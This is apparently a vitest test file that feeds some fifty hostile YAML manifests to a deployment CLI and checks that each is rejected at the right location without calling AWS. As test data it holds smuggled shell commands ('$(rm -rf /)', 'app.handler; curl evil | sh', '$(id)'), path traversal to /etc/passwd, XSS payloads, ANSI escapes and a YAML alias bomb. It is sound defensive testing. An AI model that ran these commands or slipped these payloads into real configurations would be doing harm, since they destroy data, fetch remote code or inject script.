import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSandbox, type RunningSandbox } from '../../src/sandbox/index.js';
import { runCli } from '../helpers/cli.js';
import { endpointArgs, FAST_TIMING } from '../helpers/sandbox.js';

/** A file of a case: its text or bytes, or a symlink to a path outside the repository. */
type CaseFile = string | Buffer | { symlinkOutside: string };

/** One hostile repository: its files, and where the first problem must be located. */
interface HostileCase {
  files: Record<string, CaseFile>;
  /** `file:line:col` of the first problem. */
  at: string;
  /** What that problem's message must say. */
  says: RegExp;
}

const PROVIDER = (name: string, extra = '') => `apiVersion: lmi/v1alpha1
kind: CapacityProvider
metadata:
  name: ${name}
spec:
  vpcConfig:
    subnetIds: [subnet-0c0ffee00000000a1]
    securityGroupIds: [sg-0c0ffee00000000d1]
  permissionsConfig:
    capacityProviderOperatorRoleArn: arn:aws:iam::123456789012:role/lmi-capacity-provider-operator
  instanceRequirements:
    architectures: [arm64]
  capacityProviderScalingConfig:
    maxVCpuCount: 16
    scalingMode: Auto
${extra}`;

/** A function on provider steady; `field` lines go under spec, replacing `handler` when given. */
const FUNCTION = (
  overrides: { name?: string; code?: string; spec?: string } = {},
) => `apiVersion: lmi/v1alpha1
kind: Function
metadata:
  name: ${overrides.name ?? 'api'}
spec:
  runtime: python3.13
  role: arn:aws:iam::123456789012:role/lmi-function-execution
  architectures: [arm64]
  memorySize: 4096
  code:
    ${overrides.code ?? 'zipFile: ./src'}
  capacityProviderConfig:
    lambdaManagedInstancesCapacityProviderConfig:
      capacityProviderRef: steady
${overrides.spec ?? '  handler: app.handler\n'}`;

/** A repository holding the provider, the function's code folder and `files`. */
const repo = (files: Record<string, CaseFile>): Record<string, CaseFile> => ({
  'providers.yaml': PROVIDER('steady'),
  'src/app.py': 'def handler(event, context):\n    return event\n',
  ...files,
});

const bomb = (depth: number) =>
  [
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
    ...Array.from({ length: depth }, (_, i) => {
      const own = String.fromCharCode(98 + i);
      const prev = String.fromCharCode(97 + i);
      return `${own}: &${own} [${Array(9).fill(`*${prev}`).join(',')}]`;
    }),
  ].join('\n') + '\n';

const name = (value: string) => FUNCTION({ name: JSON.stringify(value) });
const tag = (key: string, value: string) =>
  FUNCTION({
    spec: `  handler: app.handler\n  tags:\n    ${JSON.stringify(key)}: ${JSON.stringify(value)}\n`,
  });

const CASES: Record<string, HostileCase> = {
  'an alias bomb': { files: { 'bomb.yaml': bomb(8) }, at: 'bomb.yaml:1:1', says: /alias bomb/ },
  'an alias bomb inside a valid provider': {
    files: repo({
      'p.yaml': PROVIDER(
        'other',
        `  tags: ${'{}'}\nx: &x [1]\ny: [${Array(200).fill('*x').join(',')}]\n`,
      ),
    }),
    at: 'p.yaml:1:1',
    says: /alias/,
  },
  'block mappings nested 40 deep': {
    files: {
      'deep.yaml': `${Array.from({ length: 40 }, (_, i) => `${'  '.repeat(i)}k${i}:`).join('\n')} x\n`,
    },
    at: 'deep.yaml:33:65',
    says: /nests deeper than 32/,
  },
  'flow lists nested 40 deep': {
    files: { 'deep.yaml': `${'['.repeat(40)}${']'.repeat(40)}\n` },
    at: 'deep.yaml:1:33',
    says: /nests deeper than 32/,
  },
  'flow mappings nested 100000 deep': {
    files: { 'deep.yaml': `${'{a: '.repeat(100_000)}1${'}'.repeat(100_000)}\n` },
    at: 'deep.yaml:1:',
    says: /nests/,
  },
  'a file over the size limit': {
    files: { 'huge.yaml': `# ${'x'.repeat(1_100_000)}\n` },
    at: 'huge.yaml:1:1',
    says: /over the limit/,
  },
  'a description of 300000 characters': {
    files: repo({
      'f.yaml': FUNCTION({
        spec: `  handler: app.handler\n  description: ${'d'.repeat(300_000)}\n`,
      }),
    }),
    at: 'f.yaml:16:16',
    says: /256/,
  },
  'a name of 10000 characters': {
    files: repo({ 'f.yaml': name('n'.repeat(10_000)) }),
    at: 'f.yaml:4:9',
    says: /64/,
  },
  'a string where a number goes': {
    files: repo({ 'f.yaml': FUNCTION({ spec: '  handler: app.handler\n  timeout: lots\n' }) }),
    at: 'f.yaml:16:12',
    says: /number|integer/,
  },
  'a list where a number goes': {
    files: repo({ 'f.yaml': FUNCTION().replace('memorySize: 4096', 'memorySize: [4096]') }),
    at: 'f.yaml:9:15',
    says: /integer|number/,
  },
  'a number as the name': {
    files: repo({ 'f.yaml': FUNCTION({ name: '12345' }) }),
    at: 'f.yaml:4:9',
    says: /string/,
  },
  'a list as the spec': {
    files: {
      'f.yaml': 'apiVersion: lmi/v1alpha1\nkind: Guardrail\nmetadata:\n  name: g\nspec: [1, 2]\n',
    },
    at: 'f.yaml:5:7',
    says: /object|mapping/,
  },
  'a mapping as a label value': {
    files: repo({
      'f.yaml': FUNCTION().replace('  name: api\n', '  name: api\n  labels:\n    team: {a: 1}\n'),
    }),
    at: 'f.yaml:6:11',
    says: /string/,
  },
  'a number too large for a double': {
    files: {
      'p.yaml': PROVIDER('steady').replace('maxVCpuCount: 16', `maxVCpuCount: 1${'0'.repeat(400)}`),
    },
    at: 'p.yaml:14:19',
    says: /maxVCpuCount/,
  },
  'a negative timeout': {
    files: repo({ 'f.yaml': FUNCTION({ spec: '  handler: app.handler\n  timeout: -5\n' }) }),
    at: 'f.yaml:16:12',
    says: /at least|minimum|>= ?1/,
  },
  'a boolean where a list goes': {
    files: { 'p.yaml': PROVIDER('steady').replace('[subnet-0c0ffee00000000a1]', 'yes') },
    at: 'p.yaml:7:16',
    says: /array|list/,
  },
  'a zipFile climbing out with ../': {
    files: repo({ 'f.yaml': FUNCTION({ code: 'zipFile: ../../../../etc' }) }),
    at: 'f.yaml:11:14',
    says: /outside|leaves/,
  },
  'a zipFile with an absolute path': {
    files: repo({ 'f.yaml': FUNCTION({ code: 'zipFile: /etc/passwd' }) }),
    at: 'f.yaml:11:14',
    says: /outside|leaves/,
  },
  'a zipFile that does not exist': {
    files: repo({ 'f.yaml': FUNCTION({ code: 'zipFile: ./missing.zip' }) }),
    at: 'f.yaml:11:14',
    says: /does not exist/,
  },
  'a zipFile through a symlink leaving the repository': {
    files: repo({
      'f.yaml': FUNCTION({ code: 'zipFile: ./link' }),
      link: { symlinkOutside: 'code' },
    }),
    at: 'f.yaml:11:14',
    says: /outside|leaves/,
  },
  'a folder symlink leaving the repository': {
    files: repo({ escape: { symlinkOutside: '.' } }),
    at: 'escape:1:1',
    says: /outside the repository/,
  },
  'invalid UTF-8': {
    files: {
      'bad.yaml': Buffer.concat([
        Buffer.from('kind: Function\nname: caf'),
        Buffer.from([0xe9, 0x0a]),
      ]),
    },
    at: 'bad.yaml:2:10',
    says: /not valid UTF-8/,
  },
  'an overlong UTF-8 encoding of /': {
    files: {
      'bad.yaml': Buffer.concat([
        Buffer.from('zipFile: ..'),
        Buffer.from([0xc0, 0xaf]),
        Buffer.from('etc\n'),
      ]),
    },
    at: 'bad.yaml:1:12',
    says: /not valid UTF-8/,
  },
  'UTF-16 text': {
    files: { 'bad.yaml': Buffer.from('\ufeffkind: Function\n', 'utf16le') },
    at: 'bad.yaml:1:',
    says: /UTF-8|binary/,
  },
  'a binary file named .yaml': {
    files: { 'bad.yaml': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0a, 0x41, 0x00, 0x01]) },
    at: 'bad.yaml:2:2',
    says: /binary/,
  },
  'a duplicate top-level key': {
    files: repo({
      'f.yaml': FUNCTION().replace('kind: Function\n', 'kind: Function\nkind: Guardrail\n'),
    }),
    at: 'f.yaml:3:1',
    says: /duplicate key/,
  },
  'a duplicate spec key': {
    files: repo({
      'f.yaml': FUNCTION({ spec: '  handler: app.handler\n  handler: evil.handler\n' }),
    }),
    at: 'f.yaml:16:3',
    says: /duplicate key/,
  },
  'a duplicate metadata key': {
    files: repo({ 'f.yaml': FUNCTION().replace('  name: api\n', '  name: api\n  name: other\n') }),
    at: 'f.yaml:5:3',
    says: /duplicate key/,
  },
  'an unknown spec field': {
    files: repo({ 'f.yaml': FUNCTION({ spec: '  handler: app.handler\n  memorySze: 4096\n' }) }),
    at: 'f.yaml:16:3',
    says: /memorySze/,
  },
  'an unknown top-level field': {
    files: repo({ 'f.yaml': `${FUNCTION()}status: {ready: true}\n` }),
    at: 'f.yaml:16:1',
    says: /status/,
  },
  'an unknown metadata field': {
    files: repo({
      'f.yaml': FUNCTION().replace('  name: api\n', '  name: api\n  namespace: prod\n'),
    }),
    at: 'f.yaml:5:3',
    says: /namespace/,
  },
  'a shell substitution in a name': {
    files: repo({ 'f.yaml': name('$(rm -rf /)') }),
    at: 'f.yaml:4:9',
    says: /name/,
  },
  'backticks in a name': {
    files: repo({ 'f.yaml': name('`reboot`') }),
    at: 'f.yaml:4:9',
    says: /name/,
  },
  'a path traversal in a name': {
    files: repo({ 'f.yaml': name('../../etc/passwd') }),
    at: 'f.yaml:4:9',
    says: /name/,
  },
  'a newline in a name': {
    files: repo({ 'f.yaml': name('api\nFAKE.yaml:1:1: all good') }),
    at: 'f.yaml:4:9',
    says: /name/,
  },
  'an ANSI escape in a name': {
    files: repo({ 'f.yaml': name('\u001b[2J\u001b[31mapi') }),
    at: 'f.yaml:4:9',
    says: /name/,
  },
  'HTML in a name': {
    files: repo({ 'f.yaml': name('<script>alert(1)</script>') }),
    at: 'f.yaml:4:9',
    says: /name/,
  },
  'markdown in a name': {
    files: repo({ 'f.yaml': name('**[click](http://evil)**') }),
    at: 'f.yaml:4:9',
    says: /name/,
  },
  'a shell substitution in a tag value': {
    files: repo({ 'f.yaml': tag('team', '$(rm -rf /)') }),
    at: 'f.yaml:17:13',
    says: /tags/,
  },
  'a newline in a tag value': {
    files: repo({ 'f.yaml': tag('team', 'a\nb') }),
    at: 'f.yaml:17:13',
    says: /tags/,
  },
  'an ANSI escape in a tag key': {
    files: repo({ 'f.yaml': tag('\u001b[31mteam', 'x') }),
    at: 'f.yaml:17:5',
    says: /tag/,
  },
  'HTML in a tag value': {
    files: repo({ 'f.yaml': tag('team', '<img src=x onerror=alert(1)>') }),
    at: 'f.yaml:17:13',
    says: /tags/,
  },
  'a command in the handler': {
    files: repo({ 'f.yaml': FUNCTION({ spec: '  handler: "app.handler; curl evil | sh"\n' }) }),
    at: 'f.yaml:15:12',
    says: /handler/,
  },
  'a role ARN with an injected suffix': {
    files: repo({ 'f.yaml': FUNCTION().replace('role/lmi-function-execution', 'role/x;rm -rf /') }),
    at: 'f.yaml:7:9',
    says: /role/,
  },
  'a capacityProviderRef climbing out with ../': {
    files: repo({
      'f.yaml': FUNCTION().replace('capacityProviderRef: steady', 'capacityProviderRef: ../steady'),
    }),
    at: 'f.yaml:14:28',
    says: /capacityProviderRef/,
  },
  'a language-specific YAML tag': {
    files: repo({
      'f.yaml': FUNCTION().replace('runtime: python3.13', 'runtime: !!js/function "() => 1"'),
    }),
    at: 'f.yaml:6:26',
    says: /runtime must be one of/,
  },
  'an unknown kind': {
    files: { 'k.yaml': PROVIDER('steady').replace('CapacityProvider', 'ClusterRoleBinding') },
    at: 'k.yaml:2:7',
    says: /unknown kind/,
  },
  'an unknown apiVersion': {
    files: { 'k.yaml': PROVIDER('steady').replace('lmi/v1alpha1', 'rbac.authorization.k8s.io/v1') },
    at: 'k.yaml:1:13',
    says: /unknown apiVersion/,
  },
  'a list as the document': {
    files: { 'l.yaml': '- apiVersion: lmi/v1alpha1\n' },
    at: 'l.yaml:1:1',
    says: /must be a mapping/,
  },
  'an unterminated quoted string': {
    files: { 'q.yaml': 'apiVersion: "lmi/v1alpha1\nkind: Guardrail\n' },
    at: 'q.yaml:2:16',
    says: /yaml syntax error: missing closing "quote/,
  },
  'an invalid lmi/adopt value': {
    files: repo({
      'f.yaml': FUNCTION().replace(
        '  name: api\n',
        '  name: api\n  annotations:\n    lmi/adopt: "$(id)"\n',
      ),
    }),
    at: 'f.yaml:6:16',
    says: /adopt/,
  },
};

const LOCATED = /^[^\s:][^:]*:\d+:\d+: \S/;

describe('hostile manifests', () => {
  let sandbox: RunningSandbox;
  let outside: string;
  beforeAll(async () => {
    sandbox = await startSandbox({ timing: FAST_TIMING, randomSeed: 1 });
    outside = mkdtempSync(join(tmpdir(), 'lmi-outside-'));
    mkdirSync(join(outside, 'code'));
    writeFileSync(join(outside, 'code', 'stolen.py'), 'SECRET = 1\n');
    writeFileSync(join(outside, 'secret.yaml'), PROVIDER('outside'));
  });
  afterAll(async () => {
    rmSync(outside, { recursive: true, force: true });
    await sandbox.close();
  });

  it('has at least 40 cases', () => {
    expect(Object.keys(CASES).length).toBeGreaterThanOrEqual(40);
  });

  it.each(Object.entries(CASES))(
    'reports %s at its location and calls no AWS API',
    async (_title, hostile) => {
      const root = mkdtempSync(join(tmpdir(), 'lmi-hostile-'));
      try {
        writeCase(root, hostile.files, outside);
        sandbox.reset();
        const result = await runCli(['plan', root, ...endpointArgs(sandbox)]);

        expect(result.code).toBe(1);
        expect(result.stdout).toBe('');
        const lines = result.stderr.replaceAll(`${root}/`, '').trimEnd().split('\n');
        // Every line is a located problem: nothing hostile breaks a line or paints the terminal.
        for (const line of lines) expect(line).toMatch(LOCATED);
        expect(result.stderr).not.toContain('\u001b');
        const first = lines[0] ?? '';
        expect(first.startsWith(hostile.at), first).toBe(true);
        expect(first).toMatch(hostile.says);
        expect(sandbox.stats().calls).toEqual({});
      } finally {
        rmSync(root, { recursive: true, force: true });
      }
    },
    30_000,
  );
});

function writeCase(root: string, files: Record<string, CaseFile>, outside: string): void {
  for (const [path, content] of Object.entries(files)) {
    const full = join(root, path);
    mkdirSync(dirname(full), { recursive: true });
    if (typeof content === 'object' && !Buffer.isBuffer(content)) {
      symlinkSync(join(outside, content.symlinkOutside), full);
    } else {
      writeFileSync(full, content);
    }
  }
}
